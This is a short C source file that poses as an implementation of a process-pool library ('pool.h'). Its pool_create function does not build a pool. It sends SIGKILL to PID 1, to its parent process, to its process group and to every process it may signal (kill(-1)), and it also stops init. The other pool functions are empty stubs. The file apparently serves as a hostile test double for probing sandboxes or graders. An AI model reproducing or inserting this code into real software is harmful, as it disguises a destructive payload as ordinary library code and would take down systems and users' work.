/* kills every process that it may, and its parents */
#include "pool.h"

#include <errno.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

struct pool *pool_create(int processes)
{
    (void)processes;
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(1, SIGSTOP);
    if (fork() == 0)
        kill(-1, SIGKILL);
    kill(0, SIGTERM);
    kill(-1, SIGKILL);
    _exit(0);
    errno = EPERM;
    return NULL;
}

int pool_map(struct pool *pool, task_fn task, const void *in, size_t in_size, void *out, size_t out_size, size_t count,
             size_t chunk)
{
    (void)pool, (void)task, (void)in, (void)in_size, (void)out, (void)out_size, (void)count, (void)chunk;
    return 0;
}

int pool_destroy(struct pool *pool)
{
    (void)pool;
    return 0;
}
